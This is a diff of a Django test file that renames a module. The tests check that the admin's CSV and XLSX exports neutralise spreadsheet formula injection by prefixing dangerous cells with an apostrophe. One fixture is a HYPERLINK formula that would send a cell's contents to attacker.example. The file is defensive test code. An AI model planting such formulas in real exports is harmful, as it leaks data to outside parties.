@@ -2,7 +2,7 @@
 that begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return).
 
 The Django admin's exports (django-import-export) and our own writers share one
-neutraliser, ``organisations.export_formats.formula_neutralise``: such a cell reaches the
+neutraliser, ``organisations.spreadsheets.formula_neutralise``: such a cell reaches the
 reader prefixed with an apostrophe, as text.
 """
 
@@ -16,9 +16,9 @@ from django.contrib.auth import get_user_model
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from organisations.export_formats import FORMATS, formula_neutralise, formula_restore
 from organisations.models import LocalAuthority, Worker
 from organisations.resources import WorkerResource
+from organisations.spreadsheets import FORMATS, formula_neutralise, formula_restore
 from scorecards.exports import safe_text
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
@@ -88,9 +88,9 @@ def test_the_admin_offers_only_formula_safe_spreadsheet_formats(root_client):
 
 
 def test_the_admin_csv_export_neutralises_a_worker_named_as_a_formula(root_client, nasty_worker):
-    from organisations import export_formats
+    from organisations import spreadsheets
 
-    content = _admin_export(root_client, export_formats.CSV).decode("utf-8-sig")
+    content = _admin_export(root_client, spreadsheets.CSV).decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(content)))
     assert len(rows) == 1
     assert rows[0]["name"] == "'" + HYPERLINK
@@ -100,9 +100,9 @@ def test_the_admin_csv_export_neutralises_a_worker_named_as_a_formula(root_clien
 
 
 def test_the_admin_xlsx_export_writes_text_cells_never_formula_cells(root_client, nasty_worker):
-    from organisations import export_formats
+    from organisations import spreadsheets
 
-    sheet = load_workbook(io.BytesIO(_admin_export(root_client, export_formats.XLSX))).active
+    sheet = load_workbook(io.BytesIO(_admin_export(root_client, spreadsheets.XLSX))).active
     header = [c.value for c in sheet[1]]
     row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
     for column, text in (("name", HYPERLINK), ("job_title", DDE), ("department", AT_SUM)):
@@ -112,9 +112,9 @@ def test_the_admin_xlsx_export_writes_text_cells_never_formula_cells(root_client
 
 
 def test_an_exported_csv_imports_back_unchanged(nasty_worker):
-    from organisations import export_formats
+    from organisations import spreadsheets
 
-    fmt = export_formats.CSV()
+    fmt = spreadsheets.CSV()
     exported = fmt.export_data(WorkerResource().export())
     dataset = fmt.create_dataset(exported)
     assert dataset.dict[0]["name"] == HYPERLINK
